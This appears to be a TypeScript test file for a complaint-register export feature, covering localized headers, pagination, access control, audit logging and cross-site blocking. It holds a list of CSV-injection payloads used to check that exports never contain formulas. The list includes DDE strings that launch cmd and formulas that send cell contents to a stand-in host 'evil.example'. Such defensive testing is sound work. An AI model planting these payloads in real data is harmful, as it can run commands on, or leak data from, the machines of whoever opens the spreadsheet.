import assert from 'node:assert/strict'
import { test } from 'node:test'
import { exportRegister, fileComplaint, listComplaints, registerColumns } from '@redress/api'
import type { Input } from '@redress/api/client'
import { parseCsv } from 'hucre/csv'
import { readXlsx } from 'hucre/xlsx'
import { auditKind } from '../streams/audit.ts'
import { fileOne, got, startServer, type TestServer } from '../testing/index.ts'

const clerk = 'zhang-wei'
type Query = NonNullable<Input<typeof exportRegister>['query']>

async function taken(server: TestServer, query: Query, person = clerk): Promise<Uint8Array> {
  const blob = got(await server.as(person)(exportRegister, { query }))
  return new Uint8Array(await blob.arrayBuffer())
}

async function sheet(server: TestServer, query: Omit<Query, 'format'>, person = clerk) {
  const { sheets } = await readXlsx(await taken(server, { ...query, format: 'xlsx' }, person))
  return sheets[0]?.rows ?? []
}

async function lines(server: TestServer, query: Omit<Query, 'format'>, person = clerk) {
  const bytes = await taken(server, { ...query, format: 'csv' }, person)
  assert.deepEqual([...bytes.subarray(0, 3)], [0xef, 0xbb, 0xbf], 'Excel in Chinese needs the mark')
  return parseCsv(new TextDecoder().decode(bytes))
}

const file = async (server: TestServer, description: string, name: string, product: string, lot: string) =>
  got(
    await server.anyone(fileComplaint, {
      params: { desk: server.name },
      body: { description, customer: { name }, product, lot },
    }),
  )

/** What turns into a program in somebody's spreadsheet. Source: OWASP, CSV injection; reports on help desks. */
const payloads = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1+1)',
  '=cmd|" /C calc"!A0',
  '=HYPERLINK("http://evil.example?x="&A1,"click")',
  '=IMPORTXML("http://evil.example","//a")',
  '=WEBSERVICE("http://evil.example")',
  '=DDE("cmd";"/C calc";"!A0")',
  '=msexcel|"..\\..\\Windows\\System32\\cmd.exe"!""',
  '@A1',
  '-2+3+cmd|" /C calc"!D2',
  '+cmd|" /C calc"!A0',
  '=1+1";=1+1',
  '",=1+1,"',
  ' =1+1',
  '\t=1+1',
  '\n=1+1',
  '\u00a0=1+1',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1)',
  '"=1+1"',
  '=1+1,=2+2',
  '=A1\r\n=A2',
]
const live = /^[\s\u00a0\ufeff]*[=+\-@＝＋－＠]/u

test('the register is taken out with typed cells in the language and the time of the reader', async () => {
  const server = await startServer()
  const { number } = await fileOne(server)
  const rows = await sheet(server, { columns: 'received,number,customer,product,lot,due', language: 'zh' })
  assert.deepEqual(rows[0], ['收到', '编号', '客户', '产品', '批号', '期限', '逾期'])
  const [received, ...others] = rows[1] ?? []
  assert.ok(received instanceof Date, 'a date is a date')
  // 09:00 in Shanghai, where the clock of the company hangs.
  assert.equal(received.toISOString().slice(0, 16), wall(server))
  assert.deepEqual(others.slice(0, 4), [number, '林女士', 'GX-40', 'L2603'])
  assert.equal(others.at(-1), '否')
  const english = await lines(server, { language: 'en' })
  assert.deepEqual(english[0]?.slice(0, 4), ['Number', 'Complaint', 'Customer', 'Product'])
  assert.equal(english[0]?.length, registerColumns.length + 1)
  assert.equal(english[1]?.[0], number)
})

/** The company's wall clock as a table shows it. */
const wall = (server: TestServer) => new Date(server.outside.now() + 8 * 3_600_000).toISOString().slice(0, 16)

test('whatever a customer writes, no cell of an export is a formula', async () => {
  const server = await startServer()
  for (const payload of payloads) await file(server, payload, payload, payload, payload)
  const csv = await lines(server, {})
  assert.equal(csv.length, payloads.length + 1)
  for (const cells of csv)
    for (const cell of cells) assert.doesNotMatch(String(cell), live, JSON.stringify(cell))
  const bytes = await taken(server, { format: 'xlsx' })
  const { sheets } = await readXlsx(bytes)
  const rows = sheets[0]?.rows ?? []
  assert.equal(rows.length, payloads.length + 1)
  assert.equal(sheets[0]?.cells?.values().some(({ formula }) => formula !== undefined) ?? false, false)
  const customers = rows.slice(1).map((cells) => cells[2])
  assert.deepEqual(
    new Set(customers),
    new Set(payloads.map((payload) => payload.trim())),
    'nothing is changed',
  )
})

test('an export holds every complaint of the filter and nothing else, however many pages that takes', async () => {
  const server = await startServer()
  const many = 505
  await Promise.all(
    Array.from({ length: many }, (_, n) => file(server, `受潮 ${n}`, `客户 ${n}`, 'A3', 'B1')),
  )
  const odd = await file(server, '漏油', '林女士', 'GX-40', 'L2603')
  const all = await lines(server, { columns: 'number' })
  assert.equal(new Set(all.slice(1).flat()).size, many + 1)
  assert.equal(all.length, many + 2)
  await server.searched()
  assert.deepEqual(await lines(server, { columns: 'number', q: '漏油', language: 'zh' }), [
    ['编号'],
    [odd.number],
  ])
  assert.deepEqual(await lines(server, { columns: 'number', status: 'closed', language: 'zh' }), [['编号']])
})

test('somebody takes out only what they may read, and that they did is on the record without what they searched for', async () => {
  const server = await startServer()
  await fileOne(server)
  const { rows } = got(await server.as('zhou-jie')(listComplaints, {}))
  assert.equal(rows.length, 0)
  assert.equal((await lines(server, {}, 'zhou-jie')).length, 1)
  await server.searched()
  await lines(server, { q: '林女士', status: 'open', columns: 'number,customer' })
  const events = await server.store.read(server.organisation, (tx) =>
    server.store.history(tx, server.organisation, auditKind, '2026-03-10'),
  )
  const exports = events.flatMap((event) => (event.type === 'RegisterExported' ? [event.export] : []))
  assert.deepEqual(
    exports.map(({ person, format, filter, words, found }) => [person, format, filter, words, found]),
    [
      ['zhou-jie', 'csv', {}, undefined, 0],
      ['zhang-wei', 'csv', { status: 'open' }, true, 1],
    ],
  )
  assert.doesNotMatch(JSON.stringify(events), /林/)
})

test('a page of somebody else cannot make a browser take the register out', async () => {
  const server = await startServer()
  const answer = await server.fetch('http://redress.test/api/register/export?format=csv', {
    headers: { 'sec-fetch-site': 'cross-site', 'x-test-person': `${server.organisation} ${clerk}` },
  })
  assert.equal(answer.status, 403)
})
